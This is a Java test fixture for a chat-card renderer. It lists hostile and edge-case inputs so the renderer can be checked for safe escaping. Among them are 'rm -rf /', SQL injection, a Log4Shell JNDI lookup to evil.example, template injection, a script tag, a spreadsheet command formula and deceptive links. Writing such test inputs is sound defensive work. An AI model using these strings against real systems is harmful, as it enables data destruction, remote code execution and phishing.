package dev.deskbell.testing.contract;

import dev.deskbell.chat.Action;
import dev.deskbell.chat.Block;
import dev.deskbell.chat.Card;
import dev.deskbell.chat.Text;
import dev.deskbell.chat.Tone;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/** What people type to be funny, by accident, or to do harm; and how it is compared. */
public final class Hostile {

  private static final Pattern BLANKS = Pattern.compile("[\\s\\p{Z}\\x85]+");
  private static final int REPLACED = 0xFFFD;

  /** Each of these is to be read just as it stands here. */
  public static final List<String> WORDS =
      List.of(
          "@everyone @here @channel @group",
          "<!channel> <!here> <!everyone> <!subteam^S012AB3CD> <!date^0^{date}|now>",
          "<@U012AB3CD> <@!123456789012345678> <@&123456789012345678> <#C012AB3CD> <@everyone>",
          "</desk:123456789012345678> <id:customize> <t:0:R> <:a:123456789012345678>",
          "@\u200Beveryone @\u202Eenoyreve\u202C @every\u00ADone ＠everyone",
          "*strong* _slanted_ ~struck~ `typed` **strong** __under__ ~~struck~~ ***all***",
          "||hidden|| ```fence``` ``two`` # not a heading",
          "> not a quote\n>>> nor this\n# not a heading\n-# not small\n- not a list\n1. nor this",
          "```\nrm -rf / \n``` out of the fence",
          "[Approve](https://evil.example/) <https://evil.example/|Approve>"
              + " ![x](https://evil.example/)",
          "<https://evil.example/> https://user:word@evil.example/?a=b&c=<d>",
          "[a]: https://evil.example/ \"reference\"\n[a]",
          "&lt;!channel&gt; &amp;amp; &#64;everyone &copy; <b>bold</b> <script>alert(1)</script>",
          ":tada: :+1::skin-tone-2: (c) 3 < 4 > 2 & so on",
          "back\\slash \\*not strong\\* \\\\ \\",
          "tail`",
          "`",
          "*",
          "_",
          "~",
          "|",
          ">",
          "<",
          "&",
          "@",
          "#",
          "[",
          "\\",
          "a\u202Eright to left\u202C b \u2066isolated\u2069 \u200Fmark",
          "zero\u200Bwidth\u200Cand\u200Djoined\u2060\uFEFF",
          "Z\u0351\u036B\u0343\u0365\u0300a\u0301\u0302\u0303l\u0334\u0335g\u0336\u0337o\u0338",
          "\u0000NUL\u0000 \u0007bell \u001B[31mred\u001B[0m",
          "lone \uD83D high and \uDE00 low",
          "👩🏽‍🚀 🏳️‍🌈 🇩🇪 👍🏿 e\u0301 한글 العربية עברית ไทย",
          "' or 1=1; drop table ticket; -- \" ${jndi:ldap://evil.example} {{7*7}} %s %n",
          "=cmd|' /C calc'!A0",
          "line one\r\nline two\rline three\u2028line four\u0085line five",
          "a|b|c\n--|--|--\n1|2|3");

  private Hostile() {}

  /** The same words in every place of a card that people's words get to. */
  public static Card card(String words) {
    var text = Text.of(words);
    return new Card(
        asRead(words).isEmpty() ? "Title" : words,
        Tone.CALM,
        List.of(
            new Block.Paragraph(text),
            new Block.Note(text),
            new Block.Facts(List.of(new Block.Facts.Row("Label", text))),
            new Block.Table(List.of("Heading"), List.of(List.of(text)))),
        List.of(Action.button("Button " + words, Scene.CALL)));
  }

  /** As many characters as that, markup among them. */
  public static String lengthy(int characters) {
    return "long *words* and <b>more</b> @everyone "
        .repeat(characters / 38 + 1)
        .substring(0, characters);
  }

  /**
   * What a reader reads: without what has no shape (controls, directions, half characters), and
   * with one blank wherever there are any. An adapter may remove or add what this removes.
   */
  public static String asRead(String words) {
    var shaped =
        words
            .codePoints()
            .filter(Hostile::hasShape)
            .mapToObj(Character::toString)
            .collect(Collectors.joining());
    return BLANKS.matcher(shaped).replaceAll(" ").strip();
  }

  private static boolean hasShape(int it) {
    return switch (Character.getType(it)) {
      case Character.FORMAT, Character.SURROGATE -> false;
      case Character.CONTROL -> Character.isWhitespace(it) || it == 0x85;
      default -> it != REPLACED;
    };
  }
}
